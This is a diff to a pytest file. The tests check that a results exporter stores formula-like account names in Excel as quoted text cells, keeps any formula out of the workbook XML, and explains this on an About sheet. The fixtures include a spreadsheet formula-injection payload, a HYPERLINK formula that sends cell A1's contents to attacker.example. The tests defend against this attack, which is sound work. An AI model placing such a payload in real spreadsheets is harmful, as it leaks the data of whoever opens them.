@@ -3,8 +3,11 @@
 from __future__ import annotations
 
 import json
+import re
+import zipfile
 from dataclasses import replace
 from pathlib import Path
+from xml.sax.saxutils import escape
 
 import openpyxl
 import pytest
@@ -165,7 +168,7 @@ def hostile_run(tmp_path_factory: pytest.TempPathFactory) -> Path:
     return folder / "run"
 
 
-def test_case_18_names_become_string_cells_starting_with_an_apostrophe(
+def test_case_18_names_are_text_cells_shown_exactly_as_written(
     hostile_run: Path, tmp_path: Path
 ) -> None:
     path = export_results(hostile_run, "excel", tmp_path).path
@@ -176,18 +179,57 @@ def test_case_18_names_become_string_cells_starting_with_an_apostrophe(
         for row in sheet.iter_rows(min_row=2):
             names[row[0].value] = row[1]
 
-    assert names["acc-1"].value == (
-        '\'=HYPERLINK("http://attacker.example/?x="&A1,"Open")'
-    )
-    assert names["acc-2"].value == "'+Plus Minus Ltd"
-    assert names["acc-3"].value == "'@Acme Ops"
     # The reader trims the white space around names; the cell-level tests
     # cover formulas behind leading spaces and tabs.
-    assert names["acc-5"].value == "'＝1+1"
-    assert names["acc-6"].value == "'=1+1"
-    assert names["acc-4"].value == "Negative Revenue Test"
-    assert names["acc-7"].value == "Bell Ltd"
+    assert {key: cell.value for key, cell in names.items()} == {
+        "acc-1": '=HYPERLINK("http://attacker.example/?x="&A1,"Open")',
+        "acc-2": "+Plus Minus Ltd",
+        "acc-3": "@Acme Ops",
+        "acc-4": "Negative Revenue Test",
+        "acc-5": "＝1+1",
+        "acc-6": "=1+1",
+        "acc-7": "Bell Ltd",
+    }
     assert all(cell.data_type == "s" for cell in names.values())
+    # Marked as typed with a leading apostrophe, so editing the cell in
+    # Excel keeps it text; a plain name carries no mark.
+    looks_like_formula = {"acc-1", "acc-2", "acc-3", "acc-5", "acc-6"}
+    assert {key for key, cell in names.items() if cell.quotePrefix} == (
+        looks_like_formula
+    )
+
+
+def test_case_18_the_workbook_holds_no_formula_at_all(
+    hostile_run: Path, tmp_path: Path
+) -> None:
+    path = export_results(hostile_run, "excel", tmp_path).path
+
+    with zipfile.ZipFile(path) as archive:
+        sheets = [name for name in archive.namelist() if "worksheets/" in name]
+        xml = "".join(archive.read(name).decode("utf-8") for name in sheets)
+
+    assert len(sheets) == 5
+    assert "<f>" not in xml and "<f " not in xml
+    # The name is an inline text cell holding exactly what was written.
+    cells = re.findall(r'<c r="B\d+"([^>]*)><is><t>([^<]*HYPERLINK[^<]*)</t>', xml)
+    assert [(('t="inlineStr"' in kind), text) for kind, text in cells] == [
+        (True, escape('=HYPERLINK("http://attacker.example/?x="&A1,"Open")'))
+    ]
+
+
+def test_the_about_sheet_says_formula_like_text_is_kept_as_text(
+    hostile_run: Path, tmp_path: Path
+) -> None:
+    path = export_results(hostile_run, "excel", tmp_path).path
+
+    about = openpyxl.load_workbook(path)["About"]
+    notes = [row[0] for row in about.iter_rows(values_only=True) if row]
+
+    assert any(
+        str(note).startswith("Text a spreadsheet could run as a formula")
+        and "kept as text" in str(note)
+        for note in notes
+    ), notes
 
 
 def test_case_18_a_negative_number_stays_a_number(
